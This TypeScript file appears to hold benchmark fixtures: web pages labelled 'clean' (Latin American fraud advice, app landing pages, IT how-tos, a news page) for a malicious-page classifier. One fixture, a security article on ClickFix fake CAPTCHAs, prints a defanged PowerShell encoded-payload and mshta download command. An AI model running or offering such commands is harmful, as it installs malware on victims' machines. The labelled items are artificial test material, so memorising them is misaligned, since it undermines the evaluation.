import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yk-clean-welivesecurity-es-clickfix-analisis',
  label: 'clean',
  kind: 'security-article',
  url: 'https://www.welivesecurity.com/es/malware/clickfix-falsos-captcha-america-latina/',
  body: doc({
    lang: 'es',
    title: 'ClickFix: falsos CAPTCHA que engañan a usuarios de América Latina | WeLiveSecurity',
    css: `body{margin:0;font-family:'Fira Sans',Arial,sans-serif;color:#222}.h{background:#0f2b46;color:#fff;padding:14px 28px;font-weight:bold}.c{max-width:780px;margin:28px auto;padding:0 18px;line-height:1.7}
pre{background:#1e1e1e;color:#dcdcdc;padding:14px;border-radius:4px;overflow:auto;font-size:13px;white-space:pre-wrap;word-break:break-all}.copy{float:right;font-size:12px;padding:4px 10px}
table{border-collapse:collapse;font-size:13px;width:100%}td,th{border:1px solid #ddd;padding:6px;font-family:monospace}`,
    body: `<div class="h">WeLiveSecurity by ESET</div><div class="c"><h1>ClickFix: falsos CAPTCHA que engañan a usuarios de América Latina</h1><p><i>Por el equipo de investigación de ESET Latinoamérica · 24 abr 2025</i></p>
<p>Desde inicios de 2025 observamos sitios legítimos comprometidos en México, Argentina y Colombia —tiendas WooCommerce, portales de noticias y blogs— que muestran un falso control "No soy un robot". Al hacer clic, la página copia un comando al portapapeles y pide a la víctima pegarlo en la ventana Ejecutar de Windows.</p>
<p>Un ejemplo del comando copiado (desactivado y con el dominio modificado):</p>
<pre>powershell -w hidden -nop -ep bypass -enc JAByAD0AJwBoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQBbAC4AXQBjAG8AbQAvAGcAYQB0AGUAJwA=
mshta hxxps://cdn-verificacion-humana[.]com/v/9281.hta # ✅ No soy un robot - ID de verificación: 9281</pre>
<p>El script descarga un cargador que instala Lumma Stealer o troyanos bancarios como Grandoreiro y Mekotio, que roban credenciales de bancos de la región.</p>
<h2>Indicadores de compromiso</h2><button class="copy" id="cp">Copiar IoCs</button>
<table id="iocs"><tr><th>SHA-1</th><th>Detección</th></tr><tr><td>4A1C9E7B02D3F58A6E1B90C2D47F3A8E5B6C1D20</td><td>PowerShell/TrojanDownloader.Agent.HTQ</td></tr><tr><td>9F02B7D41C8E3A65F0B2C9D18E7A4F3B6C5D2E11</td><td>Win32/Spy.Grandoreiro.DQ</td></tr></table>
<h2>Recomendaciones</h2><ul><li>Ningún CAPTCHA real pide ejecutar comandos en Windows + R.</li><li>Empresas: restringir Run/PowerShell por GPO y monitorear mshta.exe.</li></ul></div>
<script>document.getElementById("cp").onclick=function(){var t=Array.prototype.map.call(document.querySelectorAll("#iocs td:first-child"),function(td){return td.textContent}).join("\\n");navigator.clipboard.writeText(t);this.textContent="Copiado"};</script>`,
  }),
},
{
  id: 'yk-clean-ml-ar-ayuda-estafas-whatsapp',
  label: 'clean',
  kind: 'security-advice',
  url: 'https://www.mercadolibre.com.ar/ayuda/Como-evitar-fraudes_1268',
  body: doc({
    lang: 'es-AR',
    title: 'Cómo evitar fraudes | Ayuda Mercado Libre Argentina',
    css: `body{margin:0;font-family:'Proxima Nova',Arial,sans-serif;background:#ededed;color:#333}.nav{background:#fff159;padding:14px 24px;font-weight:bold;color:#2d3277}.c{max-width:760px;margin:24px auto;background:#fff;border-radius:6px;padding:28px;line-height:1.6}
.wa{background:#dcf8c6;border-radius:8px;padding:10px 14px;max-width:460px;margin:8px 0;font-size:14px}`,
    body: `<div class="nav">Mercado Libre · Ayuda</div><div class="c"><h1>Cómo evitar fraudes</h1><p>Nunca te vamos a contactar por WhatsApp, llamada o redes sociales para pedirte claves, códigos o que hagas transferencias. Estos son mensajes que reportaron usuarios:</p>
<div class="wa">Hola! Te escribo de Mercado Pago. Tu cuenta fue restringida, ingresá a mercadopago-ayuda-cuentas.com.ar para validar tus datos antes de las 72 hs.</div>
<div class="wa">Ganá plata desde tu casa haciendo tareas para Mercado Libre 💰 Registrate con mi código ML88412 y recibí 15 USDT de bono.</div>
<div class="wa">Te transferí por error $85.000, ¿me los devolvés a este CVU? Te paso el comprobante.</div>
<h2>Qué hacer</h2><ul><li>No compartas el código que te llega por SMS o mail: sirve para entrar a tu cuenta.</li><li>Comprá y vendé solo dentro de Mercado Libre; no aceptes pagos "por fuera".</li><li>Si diste tus datos, cambiá tu clave desde <a href="https://www.mercadolibre.com.ar/seguridad">Seguridad</a> y contactanos desde la app.</li></ul></div>`,
  }),
},
{
  id: 'yk-clean-ti-universidade-vpn-powershell',
  label: 'clean',
  kind: 'it-howto',
  url: 'https://www.sti.ufrj.br/servicos/vpn/configurar-vpn-windows',
  body: doc({
    title: 'Configurar a VPN da UFRJ no Windows | Superintendência de TI',
    css: `body{margin:0;font-family:'Open Sans',Arial,sans-serif;color:#222}.h{background:#003a70;color:#fff;padding:14px 28px;font-weight:bold}.c{max-width:820px;margin:26px auto;padding:0 18px;line-height:1.65}
.code{position:relative}.code pre{background:#f4f6f8;border:1px solid #dde3ea;padding:14px;border-radius:4px;overflow:auto;font-size:13px}.code button{position:absolute;top:6px;right:6px;font-size:12px;padding:3px 8px}`,
    body: `<div class="h">SuperTIC · UFRJ</div><div class="c"><h1>Configurar a VPN no Windows 10/11</h1><p>A VPN permite acessar sistemas internos (SIGA, bibliotecas, periódicos CAPES) fora do campus. Use seu login institucional (<code>nome.sobrenome</code>).</p>
<h3>1. Abra o PowerShell como administrador</h3><p>Clique com o botão direito no menu Iniciar e escolha <b>Terminal (Admin)</b>.</p>
<h3>2. Crie a conexão</h3><div class="code"><button data-c="c1">Copiar</button><pre id="c1">Add-VpnConnection -Name "VPN UFRJ" -ServerAddress "vpn.ufrj.br" -TunnelType Ikev2 -AuthenticationMethod Eap -EncryptionLevel Required -RememberCredential</pre></div>
<h3>3. Ajuste a rota (opcional, para não enviar todo o tráfego pela VPN)</h3><div class="code"><button data-c="c2">Copiar</button><pre id="c2">Set-VpnConnection -Name "VPN UFRJ" -SplitTunneling $true
Add-VpnConnectionRoute -ConnectionName "VPN UFRJ" -DestinationPrefix 146.164.0.0/16</pre></div>
<h3>4. Conecte</h3><p>Clique no ícone de rede na barra de tarefas, escolha <b>VPN UFRJ</b> e entre com login e senha institucionais.</p>
<p>Problemas? Abra um chamado em <a href="https://atendimento.ufrj.br">atendimento.ufrj.br</a> ou ligue (21) 3938-1700. A STI nunca pede sua senha por e-mail.</p></div>
<script>document.querySelectorAll(".code button").forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent).then(function(){b.textContent="Copiado!";setTimeout(function(){b.textContent="Copiar"},1500)})}});</script>`,
  }),
},
{
  id: 'yk-clean-oss-docs-curl-install',
  label: 'clean',
  kind: 'it-howto',
  url: 'https://docs.brasilapi.com.br/cli/instalacao',
  body: doc({
    title: 'Instalação da CLI | BrasilAPI Docs',
    css: `body{margin:0;font-family:Inter,-apple-system,Arial,sans-serif;color:#1c1e21;display:flex}.side{width:240px;background:#f5f6f7;min-height:100vh;padding:20px;font-size:14px}.side a{display:block;color:#444;text-decoration:none;margin:8px 0}
.c{flex:1;max-width:760px;padding:30px 40px;line-height:1.65}.cb{position:relative}pre{background:#282c34;color:#abb2bf;padding:14px;border-radius:6px;overflow:auto;font-size:13px}.cb button{position:absolute;top:8px;right:8px;background:#444;color:#fff;border:0;border-radius:4px;padding:4px 8px;font-size:12px}`,
    body: `<nav class="side"><b>BrasilAPI</b><a href="/">Introdução</a><a href="/cep">CEP</a><a href="/cnpj">CNPJ</a><a href="/pix">Pix (participantes)</a><a href="/cli/instalacao">CLI</a></nav>
<main class="c"><h1>Instalação da CLI</h1><p>A <code>brasilapi-cli</code> consulta CEP, CNPJ, bancos e feriados pelo terminal. É um binário estático, sem dependências.</p>
<h2>Linux e macOS</h2><div class="cb"><button>Copiar</button><pre>curl -fsSL https://get.brasilapi.com.br/cli/install.sh | sh</pre></div>
<p>O script detecta sua arquitetura, baixa a release do GitHub e verifica o SHA-256. Prefere conferir antes? Baixe o script, leia e execute:</p>
<div class="cb"><button>Copiar</button><pre>curl -fsSLO https://get.brasilapi.com.br/cli/install.sh
less install.sh
sh install.sh --prefix "$HOME/.local"</pre></div>
<h2>Windows (PowerShell)</h2><div class="cb"><button>Copiar</button><pre>winget install BrasilAPI.CLI</pre></div>
<h2>Uso</h2><pre>brasilapi cep 01310-100
brasilapi cnpj 19131243000197 --json</pre></main>
<script>document.querySelectorAll(".cb button").forEach(function(b){b.addEventListener("click",function(){navigator.clipboard.writeText(b.nextElementSibling.textContent);b.textContent="Copiado"})});</script>`,
  }),
},
{
  id: 'yk-clean-picpay-app-landing',
  label: 'clean',
  kind: 'app-page',
  url: 'https://picpay.com/site/baixe-o-app',
  body: doc({
    title: 'Baixe o app PicPay | Pix, cartão e conta digital',
    css: `body{margin:0;font-family:'Inter',Arial,sans-serif;color:#111}.h{background:#11c76f;color:#fff;padding:14px 28px;font-weight:800;font-size:24px}.c{max-width:960px;margin:40px auto;display:flex;gap:40px;padding:0 18px;align-items:center}
.st a{display:inline-block;background:#111;color:#fff;border-radius:8px;padding:10px 18px;margin:6px 6px 0 0;text-decoration:none}.ph{width:260px;height:520px;background:#eafaf1;border-radius:36px;border:8px solid #111}`,
    body: `<div class="h">PicPay</div><div class="c"><div style="flex:1"><h1>Sua conta digital com Pix grátis, cartão sem anuidade e cashback</h1><p>Aponte a câmera para o QR Code ou baixe pela loja do seu celular.</p>${qrSvg('picpay-onelink', 140)}
<div class="st"><a href="https://play.google.com/store/apps/details?id=com.picpay">Google Play</a><a href="https://apps.apple.com/br/app/picpay/id561524792">App Store</a></div>
<p style="font-size:12px;color:#666">O PicPay não distribui o app por arquivos APK em sites ou mensagens. Instale somente pelas lojas oficiais.</p></div><div class="ph"></div></div>`,
  }),
},
{
  id: 'yk-clean-yape-pe-app-landing',
  label: 'clean',
  kind: 'app-page',
  url: 'https://www.yape.com.pe/?utm_source=bcp&utm_medium=web',
  body: doc({
    lang: 'es-PE',
    title: 'Yape | Yapea gratis a cualquier número',
    css: `body{margin:0;font-family:'Montserrat',Arial,sans-serif;color:#2b0a3d;background:#fff}.h{background:#742284;color:#fff;padding:14px 28px;font-weight:800;font-size:24px}.hero{background:#f4ecf7;padding:50px 28px}
.hero h1{font-size:38px;max-width:560px}.b a{display:inline-block;background:#00c1b4;color:#fff;padding:12px 22px;border-radius:24px;margin-right:10px;text-decoration:none}.f{padding:24px 28px;font-size:13px}`,
    body: `<div class="h">yape</div><div class="hero"><h1>Yapea gratis a cualquier celular, así no tenga Yape</h1><p>Paga en bodegas, recarga tu celular y compra en Promos. Más de 17 millones de yaperos.</p>
<div class="b"><a href="https://play.google.com/store/apps/details?id=com.bcp.innovacxion.yapeapp">Descargar en Google Play</a><a href="https://apps.apple.com/pe/app/yape/id1256714608">App Store</a></div></div>
<div class="f"><b>Yape te cuida:</b> Yape nunca te llamará para pedirte tu clave o el código de aprobación. No existen sorteos de Yape por WhatsApp.<br>Yape es un servicio del Banco de Crédito del Perú.</div>`,
  }),
},
{
  id: 'yk-clean-mercado-bitcoin-home-login',
  label: 'clean',
  kind: 'crypto-exchange',
  url: 'https://www.mercadobitcoin.com.br/?ref=home-nav',
  body: doc({
    title: 'Mercado Bitcoin | Compre Bitcoin, Ethereum e mais de 300 ativos digitais',
    css: `body{margin:0;font-family:'Red Hat Display',Arial,sans-serif;background:#fff;color:#1a1a1a}.h{display:flex;justify-content:space-between;align-items:center;padding:14px 28px;border-bottom:1px solid #eee}.h b{color:#ff6b00;font-size:22px}
.h a{margin-left:14px;color:#1a1a1a;text-decoration:none}.h a.on{background:#ff6b00;color:#fff;padding:8px 16px;border-radius:20px}.hero{padding:50px 28px;background:#fff6ef}
table{width:100%;max-width:900px;margin:20px auto;border-collapse:collapse;font-size:15px}td{padding:12px;border-bottom:1px solid #eee}.up{color:#0a8f3c}.dn{color:#d02e2e}`,
    body: `<div class="h"><b>Mercado Bitcoin</b><div><a href="https://www.mercadobitcoin.com.br/plataforma/login">Entrar</a><a class="on" href="https://www.mercadobitcoin.com.br/cadastro">Abrir conta</a></div></div>
<div class="hero"><h1>Invista em cripto com quem está há 12 anos no mercado</h1><p>Deposite via Pix e compre a partir de R$ 1. Regulado e auditado.</p></div>
<table><tr><td>Bitcoin (BTC)</td><td>R$ 542.180,00</td><td class="up">+1,82%</td></tr><tr><td>Ethereum (ETH)</td><td>R$ 10.412,55</td><td class="dn">-0,64%</td></tr><tr><td>Solana (SOL)</td><td>R$ 839,10</td><td class="up">+3,10%</td></tr><tr><td>Tether (USDT)</td><td>R$ 5,69</td><td>0,00%</td></tr></table>
<p style="max-width:900px;margin:20px auto;font-size:12px;color:#666">O Mercado Bitcoin não realiza airdrops por links, não pede sua frase de recuperação e não oferece "robôs" de rentabilidade garantida.</p>`,
  }),
},
{
  id: 'yk-clean-news-mx-ads-heavy-scripts',
  label: 'clean',
  kind: 'news-article',
  url: 'https://www.milenio-regional.com.mx/negocios/spei-nuevas-reglas-banxico-2025',
  body: newsShell({
    site: 'Milenio Regional',
    color: '#a6192e',
    lang: 'es-MX',
    title: 'Banxico anuncia nuevas reglas para transferencias SPEI',
    section: 'Negocios',
    extraHead: `${gtag('G-MR4X1P0QZ7')}<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>
<script>window.googletag=window.googletag||{cmd:[]};googletag.cmd.push(function(){googletag.defineSlot('/21812345/milenio_regional/negocios',[[300,250],[728,90]],'div-gpt-ad-top').addService(googletag.pubads());googletag.pubads().enableSingleRequest();googletag.enableServices()});</script>`,
    article: `<h1>Banxico anuncia nuevas reglas para transferencias SPEI</h1><div class="meta">Ciudad de México · 28.04.2025 · 09:40 hrs</div><div id="div-gpt-ad-top"></div>
<p>El Banco de México publicó modificaciones a las reglas del Sistema de Pagos Electrónicos Interbancarios (SPEI) que obligarán a los bancos a verificar la titularidad de las cuentas CLABE antes de completar transferencias de alto monto.</p>
<p>La medida busca reducir fraudes como las tiendas falsas que piden pagos únicamente por transferencia y los "préstamos" que exigen una comisión por adelantado.</p>`,
    tail: `<script>
!function(){var c=JSON.parse(atob("${b64(JSON.stringify({ site: 'milenio-regional', sect: 'negocios', kw: ['spei', 'banxico', 'fraude'], lazy: true, refresh: 30 }))}"));
var q=[];function l(s){var e=document.createElement("script");e.async=1;e.src=s;document.head.appendChild(e)}
window.__adcfg=c;if(c.lazy){window.addEventListener("scroll",function f(){window.removeEventListener("scroll",f);l("https://cdn.taboola.com/libtrc/milenioregional/loader.js")})}
setInterval(function(){if(window.googletag&&googletag.pubads)googletag.pubads().refresh()},c.refresh*1e3)}();
</script>`,
  }),
},
];
